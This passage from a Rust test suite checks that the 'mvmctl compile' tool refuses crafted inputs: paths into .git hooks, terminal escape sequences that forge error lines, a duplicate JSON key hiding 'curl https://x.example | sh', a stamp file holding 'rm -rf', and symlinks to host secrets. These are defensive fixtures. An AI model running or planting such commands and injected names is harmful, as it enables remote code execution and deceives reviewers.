        forged.as_str(),
        "/app/evil\u{1b}[2Jname",
        "/app/.git/config",
        "/app/vendor/.git/hooks/post-checkout",
        "/app/a\\b",
    ]
    .iter()
    .enumerate()
    {
        let ops = json!([{"op": "write", "path": path, "data_b64": "aGkK"}, true_op()]);
        std::fs::write(&rec, recording(project.path(), &[], ops).to_string()).unwrap();
        let r = compile_recording(&rec, &["--out".as_ref(), out.as_os_str()]);
        assert_eq!(r.code, 2, "{i}: {}", r.stderr);
        assert!(
            r.stderr
                .contains("/sandboxes/0/operations/0/path: error[E_INVALID_VALUE]: files.write("),
            "{i}: {}",
            r.stderr
        );
        assert!(
            !r.stderr.contains('\u{1b}'),
            "{i}: raw ESC printed: {:?}",
            r.stderr
        );
        assert!(!out.exists(), "{i}");
    }
}

#[test]
fn a_recording_with_duplicate_keys_is_refused() {
    let project = tempfile::tempdir().unwrap();
    let rec = project.path().join("rec.json");
    // Which `cmd` wins depends on the reader; the reviewer may read the first.
    let text = recording(project.path(), &[], json!([true_op()]))
        .to_string()
        .replace(
            r#""cmd":"true""#,
            r#""cmd":"true","cmd":"curl https://x.example | sh""#,
        );
    std::fs::write(&rec, text).unwrap();
    let out = project.path().join("out");
    let r = compile_recording(&rec, &["--out".as_ref(), out.as_os_str()]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("/sandboxes/0/operations/0/cmd: error[E_SCHEMA]: duplicate key"),
        "{}",
        r.stderr
    );
    assert!(!out.exists());
}

/// A file of `len` bytes that takes no disk space.
fn sparse(path: &Path, len: u64) {
    std::fs::File::create(path).unwrap().set_len(len).unwrap();
}

#[test]
fn bundles_over_a_limit_are_refused() {
    // One file over 1 GiB.
    let p = Project::new(&workload(&["**"], &[]), &[("app.py", "")]);
    sparse(&p.path().join("huge.bin"), (1 << 30) + 1);
    let out = p.path().join("out");
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(
            "/apps/0/source: error[E_SOURCE_TOO_LARGE]: huge.bin: this file is 1073741825 bytes, over the limit"
        ),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("hint: narrow the source's include globs"),
        "{}",
        r.stderr
    );
    assert!(!out.exists());

    // Files under the one-file cap, over 2 GiB together.
    let p = Project::new(&workload(&["**"], &[]), &[("app.py", "")]);
    for name in ["a.bin", "b.bin", "c.bin"] {
        sparse(&p.path().join(name), 900 << 20);
    }
    let r = run(mvmctl().arg("compile").arg(p.ir()).arg("--check"));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("error[E_SOURCE_TOO_LARGE]: c.bin: the bundle reaches"),
        "{}",
        r.stderr
    );

    // Too many files (the cap lowered for the test; it can only be lowered).
    let files: Vec<(String, String)> = (0..6)
        .map(|i| (format!("f{i}.txt"), String::new()))
        .collect();
    let refs: Vec<(&str, &str)> = files
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let p = Project::new(&workload(&["f*"], &[]), &refs);
    let r = run(mvmctl()
        .arg("compile")
        .arg(p.ir())
        .arg("--out")
        .arg(&out)
        .env("MVM_TEST_BUNDLE_MAX_FILES", "5"));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("error[E_SOURCE_TOO_LARGE]: f5.txt: the bundle reaches 6 files here, over the limit of 5 files"),
        "{}",
        r.stderr
    );
    assert!(!out.exists());
    let r = run(mvmctl()
        .arg("compile")
        .arg(p.ir())
        .arg("--check")
        .env("MVM_TEST_BUNDLE_MAX_FILES", "6"));
    assert_eq!(r.code, 0, "{}", r.stderr);
}

#[test]
fn out_is_replaced_only_when_it_holds_the_compilers_stamp() {
    let p = Project::new(&workload(&["app.py"], &[]), &[("app.py", "")]);
    let parent = tempfile::tempdir().unwrap();

    // The two old markers are easy to plant next to something precious.
    let out = parent.path().join("looks-compiled");
    std::fs::create_dir(&out).unwrap();
    for (name, text) in [
        ("workload.json", "{}"),
        ("SHA256SUMS", ""),
        ("thesis.tex", "precious"),
    ] {
        std::fs::write(out.join(name), text).unwrap();
    }
    let before = snapshot(&out);
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.starts_with(&format!(
            "error[E_OUTPUT]: {} exists and is not an mvm compile output (no .mvm-compile-output stamp",
            out.display()
        )),
        "{}",
        r.stderr
    );
    assert_eq!(snapshot(&out), before);

    // A stamp with other content, or a link to a real stamp, is not the stamp.
    let real = parent.path().join("real");
    assert_eq!(compile(&p.ir(), &real).code, 0);
    assert_eq!(
        std::fs::read_to_string(real.join(".mvm-compile-output")).unwrap(),
        "mvm-compile-output 1\n"
    );
    std::fs::write(
        out.join(".mvm-compile-output"),
        "mvm-compile-output 1\nrm -rf\n",
    )
    .unwrap();
    assert_eq!(compile(&p.ir(), &out).code, 2);
    std::fs::remove_file(out.join(".mvm-compile-output")).unwrap();
    std::os::unix::fs::symlink(
        real.join(".mvm-compile-output"),
        out.join(".mvm-compile-output"),
    )
    .unwrap();
    assert_eq!(compile(&p.ir(), &out).code, 2);
    assert_eq!(
        std::fs::read_to_string(out.join("thesis.tex")).unwrap(),
        "precious"
    );

    // The stamp is in SHA256SUMS, so `sha256sum -c` and the image build cover it.
    let sums = std::fs::read_to_string(real.join("SHA256SUMS")).unwrap();
    assert!(sums.contains("  .mvm-compile-output\n"), "{sums}");
    // A real output is replaced.
    assert_eq!(compile(&p.ir(), &real).code, 0);

    // Archives: the markers without the stamp are refused too.
    let fake = parent.path().join("fake.tgz");
    {
        let gz = flate2::write::GzEncoder::new(
            std::fs::File::create(&fake).unwrap(),
            flate2::Compression::default(),
        );
        let mut tar = tar::Builder::new(gz);
        for name in ["workload.json", "SHA256SUMS"] {
            let mut h = tar::Header::new_gnu();
            h.set_size(2);
            h.set_mode(0o644);
            h.set_cksum();
            tar.append_data(&mut h, name, &b"{}"[..]).unwrap();
        }
        tar.into_inner().unwrap().finish().unwrap();
    }
    let fake_bytes = std::fs::read(&fake).unwrap();
    assert_eq!(compile(&p.ir(), &fake).code, 2);
    assert_eq!(std::fs::read(&fake).unwrap(), fake_bytes);
    let tgz = parent.path().join("real.tgz");
    assert_eq!(compile(&p.ir(), &tgz).code, 0);
    assert!(
        archive_entries(&tgz)
            .iter()
            .any(|e| e.0 == ".mvm-compile-output" && e.5 == b"mvm-compile-output 1\n")
    );
    assert_eq!(compile(&p.ir(), &tgz).code, 0);
}

#[test]
fn outputs_are_owner_only_on_disk_whatever_the_umask() {
    let p = Project::new(
        &workload(&["**"], &[]),
        &[("app.py", ""), ("pkg/mod.py", "")],
    );
    let parent = tempfile::tempdir().unwrap();
    let out = parent.path().join("out");
    let tgz = parent.path().join("out.tgz");
    for target in [&out, &tgz] {
        let r = run(std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg("umask 022; exec \"$0\" compile \"$1\" --out \"$2\"")
            .arg(env!("CARGO_BIN_EXE_mvmctl"))
            .arg(p.ir())
            .arg(target));
        assert_eq!(r.code, 0, "{}", r.stderr);
    }
    for (rel, e) in snapshot(&out) {
        match e.0.as_str() {
            "dir" => assert_eq!(e.1, 0o700, "{rel}"),
            "file" => assert!(matches!(e.1, 0o644 | 0o755), "{rel}: {:o}", e.1),
            _ => {}
        }
    }
    let mode = std::fs::metadata(&tgz).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    // The archive keeps its deterministic entry modes.
    for (name, mode, ..) in archive_entries(&tgz) {
        if name.ends_with('/') {
            assert_eq!(mode, 0o755, "{name}");
        }
    }
}

#[test]
fn private_source_files_are_flagged_in_the_review() {
    let p = Project::new(
        &workload(&["**"], &[]),
        &[
            ("app.py", ""),
            ("id_ed25519", "KEY"),
            ("vault/notes.txt", "n"),
        ],
    );
    std::fs::set_permissions(
        p.path().join("id_ed25519"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    std::fs::set_permissions(
        p.path().join("vault"),
        std::fs::Permissions::from_mode(0o700),
    )
    .unwrap();
    let out = tempfile::tempdir().unwrap();
    let out = out.path().join("o");
    let r = compile(&p.ir(), &out);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stderr.contains(
            "/apps/0/source: warning[W_SOURCE_PRIVATE_FILE]: id_ed25519: only its owner may read it on the host (mode 0600); in the bundle it is world-readable (0644)"
        ),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains(
            "warning[W_SOURCE_PRIVATE_FILE]: vault/notes.txt: it lies in vault/, which others may not enter on the host"
        ),
        "{}",
        r.stderr
    );
    assert!(r.stdout.contains("  warn  source_narrow"), "{}", r.stdout);
    let review = read_json(&out.join("review.json"));
    assert_eq!(review["checks"][0]["status"], "warn");
    assert_eq!(
        review["checks"][0]["findings"][0]["code"],
        "W_SOURCE_PRIVATE_FILE"
    );
    // The bundle's mode stays deterministic.
    let mode = std::fs::metadata(out.join("src/id_ed25519"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o644);
}

#[test]
fn control_characters_in_names_are_escaped_when_printed() {
    let p = Project::new(&workload(&["**"], &[]), &[("app.py", "")]);
    // ESC [2J clears the screen; a newline would forge a finding line.
    p.write("evil\u{1b}[2J\nerror[E_FAKE]: all good.py", "");
    let r = compile(&p.ir(), &p.path().join("out"));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(
            "/apps/0/source: error[E_SOURCE_UNREADABLE]: evil\\x1b[2J\\nerror[E_FAKE]: all good.py: this path contains a control character"
        ),
        "{}",
        r.stderr
    );
    assert!(
        !r.stderr.contains('\u{1b}'),
        "raw ESC printed: {:?}",
        r.stderr
    );
    assert!(!r.stderr.contains("\nerror[E_FAKE]"), "{}", r.stderr);

    // The review summary quotes source.path: escaped too.
    let mut ir = workload(&["app.py"], &[]);
    ir["apps"][0]["source"]["path"] = json!("src\u{1b}]0;owned\u{7}");
    let p = Project::new(&ir, &[("src\u{1b}]0;owned\u{7}/app.py", "")]);
    let r = run(mvmctl().arg("compile").arg(p.ir()).arg("--check"));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.contains("1 file(s) under `src\\x1b]0;owned\\x07`"),
        "{}",
        r.stdout
    );
    assert!(
        !r.stdout.contains('\u{1b}') && !r.stdout.contains('\u{7}'),
        "{:?}",
        r.stdout
    );
}

const ADDON_DECL: &str = r#"import mvm


@mvm.app(
    name="addon-app",
    source=mvm.local_path(".", include=["app.py"]),
    image=mvm.python_image(python="3.13"),
    network=mvm.network(mode="none"),
    addons=[
        mvm.addon(name="tools", path="ADDON_PATH", before_start=["sh", "/app/.mvm/addons/tools/run.sh"]),
    ],
    before_start="test -s /run/tools-ran",
)
def f() -> str:
    return "x"
"#;

fn addon_project(path: &str) -> Project {
    Project::new(
        &json!({}),
        &[("app.py", &ADDON_DECL.replace("ADDON_PATH", path))],
    )
}

/// An addon's `path` is checked like `source.path`, by `compile` and by
/// `--check`, and pointed at in the declaration.
#[test]
fn addon_paths_are_checked_like_the_source_path() {
    let p = addon_project("addons/tools");
    let out = p.path().join("out");
    for args in [vec!["--check"], vec!["--out", out.to_str().unwrap()]] {
        let r = run(mvmctl()
            .args(["compile", "app.py"])
            .args(&args)
            .current_dir(p.path()));
        assert_eq!(r.code, 2, "{args:?}: {}{}", r.stdout, r.stderr);
        assert!(
            r.stderr.contains(
                "app.py:10:38: error[E_SOURCE_UNREADABLE]: the directory ./addons/tools of addon `tools` cannot be opened"
            ),
            "{}",
            r.stderr
        );
        assert!(
            r.stderr
                .contains("hint: the path `addons/tools` of addon `tools` is relative to"),
            "{}",
            r.stderr
        );
    }
    assert!(!out.exists());

    let p = Project::new(
        &json!({}),
        &[(
            "project/app.py",
            &ADDON_DECL.replace("ADDON_PATH", "../outside"),
        )],
    );
    std::fs::create_dir(p.path().join("outside")).unwrap();
    let r = run(mvmctl()
        .args(["compile", "app.py", "--check"])
        .current_dir(p.path().join("project")));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(&format!(
            "app.py:10:38: error[E_SOURCE_ESCAPES]: the path `../outside` of addon `tools` resolves to {}/outside, outside {}/project\n",
            p.path().canonicalize().unwrap().display(),
            p.path().canonicalize().unwrap().display()
        )),
        "{}",
        r.stderr
    );
}

#[test]
fn addon_files_are_bundled_and_reviewed() {
    let p = addon_project("addons/tools");
    p.write(
        "addons/tools/run.sh",
        "cat /app/.mvm/addons/tools/msg > /run/tools-ran\n",
    );
    p.write("addons/tools/msg", "hi from tools\n");
    let out = p.path().join("out");
    let r = run(mvmctl()
        .args(["compile", "app.py", "--out"])
        .arg(&out)
        .current_dir(p.path()));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(
        std::fs::read_to_string(out.join("src/.mvm/addons/tools/msg")).unwrap(),
        "hi from tools\n"
    );
    let sums = std::fs::read_to_string(out.join("SHA256SUMS")).unwrap();
    for f in [
        "src/app.py",
        "src/.mvm/addons/tools/msg",
        "src/.mvm/addons/tools/run.sh",
    ] {
        assert!(sums.contains(&format!("  {f}\n")), "{f} in {sums}");
    }
    let launch = read_json(&out.join("launch.json"));
    assert_eq!(launch["source"]["files"], 3);
    assert_eq!(
        launch["hooks"]["before_start"],
        json!([
            { "kind": "argv", "argv": ["sh", "/app/.mvm/addons/tools/run.sh"] },
            { "kind": "shell", "line": "test -s /run/tools-ran" }
        ])
    );
    let review = read_json(&out.join("review.json"));
    let source = &review["checks"][0];
    assert_eq!(source["check"], "source_narrow");
    assert!(
        source["summary"].as_str().unwrap()
            == "1 file(s) under `.` selected by include [\"app.py\"]; plus addon(s) `tools` (2 file(s)) at /app/.mvm/addons/<name>/",
        "{source}"
    );
    let r = run(mvmctl()
        .args(["compile", "app.py", "--check"])
        .current_dir(p.path()));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.contains("; plus addon(s) `tools` (2 file(s))"),
        "{}",
        r.stdout
    );

    // The addon's files count towards the bundle's caps.
    let r = run(mvmctl()
        .args(["compile", "app.py", "--check"])
        .env("MVM_TEST_BUNDLE_MAX_FILES", "2")
        .current_dir(p.path()));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(
            "error[E_SOURCE_TOO_LARGE]: run.sh: the bundle reaches 3 files here, over the limit of 2 files"
        ),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains("hint: keep only what the addon's hooks need"),
        "{}",
        r.stderr
    );
}

/// A symlink in an addon is kept or refused by the app's rules.
#[test]
fn addon_symlinks_follow_the_bundle_rules() {
    let (etc, secret) = host_secrets();
    let p = addon_project("addons/tools");
    p.write("addons/tools/run.sh", "true\n");
    std::os::unix::fs::symlink(etc.path(), p.path().join("addons/tools/keys")).unwrap();
    std::os::unix::fs::symlink("run.sh", p.path().join("addons/tools/again.sh")).unwrap();
    let out = p.path().join("out");
    let r = run(mvmctl()
        .args(["compile", "app.py", "--out"])
        .arg(&out)
        .current_dir(p.path()));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(&format!(
            "error[E_SOURCE_UNREADABLE]: keys: this symlink points to the absolute path {}, which is outside the addon's directory",
            etc.path().display()
        )),
        "{}",
        r.stderr
    );
    assert!(!out.exists());
    assert_eq!(files_containing(p.path(), secret), Vec::<String>::new());

    std::fs::remove_file(p.path().join("addons/tools/keys")).unwrap();
    let r = run(mvmctl()
        .args(["compile", "app.py", "--out"])
        .arg(&out)
        .current_dir(p.path()));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(
        std::fs::read_link(out.join("src/.mvm/addons/tools/again.sh")).unwrap(),
        Path::new("run.sh")
    );
}

#[test]
fn app_files_where_addons_go_are_refused() {
    let p = addon_project("addons/tools");
    p.write("addons/tools/run.sh", "true\n");
    let decl = ADDON_DECL
        .replace("ADDON_PATH", "addons/tools")
        .replace(r#"include=["app.py"]"#, r#"include=["app.py", ".mvm/**"]"#);
    p.write("app.py", &decl);
    p.write(".mvm/addons/tools/run.sh", "mine\n");
    let r = run(mvmctl()
        .args(["compile", "app.py", "--check"])
        .current_dir(p.path()));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(
            "error[E_INVALID_VALUE]: .mvm/addons/tools/run.sh: the app's source bundle holds this path, but `.mvm/addons/` holds the attached addons"
        ),
        "{}",
        r.stderr
    );
}

/// examples/python/addon-app (run end to end by e2e_addons.rs): the
/// addon's files are in the bundle where its hook looks for them.
#[test]
fn the_addon_example_bundles_its_addon() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let decl = examples().join("../python/addon-app/app.py");
    let r = run(mvmctl().arg("compile").arg(&decl).arg("--out").arg(&out));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let script = std::fs::read_to_string(out.join("hooks/before_start.sh")).unwrap();
    let addon = script
        .find("'sh' '/app/.mvm/addons/stamp/stamp.sh'")
        .unwrap_or_else(|| panic!("{script}"));
    let app = script.find("test -s /run/addon-stamp").unwrap();
    assert!(addon < app, "{script}");
    let stamp = std::fs::read_to_string(out.join("src/.mvm/addons/stamp/stamp.sh")).unwrap();
    assert!(stamp.contains("message.txt"), "{stamp}");
    assert!(out.join("src/.mvm/addons/stamp/message.txt").is_file());
    assert_eq!(read_json(&out.join("launch.json"))["source"]["files"], 3);
}
